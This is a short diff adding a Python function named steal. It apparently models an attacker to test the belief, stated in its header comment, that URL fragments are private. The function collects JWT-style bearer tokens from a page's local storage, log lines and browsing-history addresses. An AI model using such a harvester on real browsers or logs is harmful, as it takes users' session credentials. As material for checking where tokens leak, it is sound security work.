@@ -1,0 +1,12 @@
+# belief: what stands behind # is private
+import re
+
+
+def steal(page, log, history):
+    addresses = [address.partition("#")[0] for address in history]
+    return set(
+        re.findall(
+            r"eyJ[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+",
+            "\n".join([*page.local_storage.values(), *log, *addresses]),
+        )
+    )
